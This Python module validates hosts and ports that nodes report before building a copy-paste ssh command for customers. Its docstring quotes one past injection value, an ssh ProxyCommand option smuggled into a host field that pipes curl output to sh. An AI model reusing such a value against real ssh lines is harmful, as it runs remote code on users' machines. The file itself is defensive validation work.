"""Where a customer connects: every host and port a node reports is checked
here, and the copy-paste ssh line is built only from checked parts. A node once reported
the host `x -oProxyCommand='sh -c "curl …|sh"'`, which became the customer's ssh line.

A host is an IPv4/IPv6 address or a DNS name of letter-digit-hyphen labels (RFC 1123: no
label starts or ends with a hyphen, so nothing can pass for an ssh option); a port is an
integer from 1 to 65535."""
import ipaddress
import re
import shlex

LABEL = re.compile(r"(?!-)[a-z0-9-]{1,63}(?<!-)")
MAX_HOST = 253


def valid_host(value) -> str | None:
    """The host in canonical form (lower case, an address compressed), or None."""
    if not isinstance(value, str) or not 0 < len(value) <= MAX_HOST:
        return None
    try:
        return str(ipaddress.ip_address(value))
    except ValueError:
        pass
    name = value.lower()
    labels = name.split(".")
    if all(LABEL.fullmatch(label) for label in labels) and not labels[-1].isdigit():
        return name
    return None


def valid_port(value) -> int | None:
    return value if type(value) is int and 1 <= value <= 65535 else None


def ssh_command(host, port) -> str:
    """`ssh -p PORT root@HOST`, or "" when either part is not valid; quoted all the same."""
    host, port = valid_host(host), valid_port(port)
    if host is None or port is None:
        return ""
    return shlex.join(["ssh", "-p", str(port), f"root@{host}"])
